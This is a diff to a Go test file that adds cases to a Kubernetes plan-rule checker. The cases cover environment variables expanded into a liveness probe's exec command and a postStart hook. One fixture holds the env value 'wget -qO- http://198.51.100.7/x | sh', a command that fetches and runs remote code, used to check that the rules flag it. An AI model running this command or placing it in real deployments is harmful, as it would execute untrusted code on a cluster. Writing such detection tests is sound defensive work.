@@ -218,6 +218,20 @@ func TestShippedPlanRules(t *testing.T) {
 				"config_map_key_ref": []any{map[string]any{"name": "settings", "key": "run"}}}}})
 			c["args"] = []any{"$(RUN)"}
 		}, []string{"plan-command-literal", "plan-command-pinned"}},
+		// Found in review (2026-12-07): the kubelet expands a probe's exec command too; the probe's code then
+		// changes with an env value while plan-command-pinned sees the same command.
+		{"a variable expanded into a probe's command", func(d map[string]any) {
+			c := container(after(d))
+			c["env"] = append(c["env"].([]any), map[string]any{"name": "CHECK", "value": "wget -qO- http://198.51.100.7/x | sh"})
+			c["liveness_probe"] = []any{map[string]any{"exec": []any{map[string]any{"command": []any{"/bin/sh", "-c", "$(CHECK)"}}},
+				"http_get": []any{}, "tcp_socket": []any{}}}
+		}, []string{"plan-command-literal", "plan-command-pinned"}},
+		{"a variable expanded into a lifecycle hook's command", func(d map[string]any) {
+			c := container(after(d))
+			c["env"] = append(c["env"].([]any), map[string]any{"name": "HOOK", "value": "id"})
+			c["lifecycle"] = []any{map[string]any{"pre_stop": []any{}, "post_start": []any{map[string]any{
+				"exec": []any{map[string]any{"command": []any{"/bin/sh", "-c", "$(HOOK)"}}}, "http_get": []any{}, "tcp_socket": []any{}}}}}
+		}, []string{"plan-command-literal", "plan-command-pinned"}},
 		{"a literal $$(NAME) and a shell variable", func(d map[string]any) {
 			c := container(after(d))
 			c["env"] = append(c["env"].([]any), map[string]any{"name": "RUN", "value": "x"})
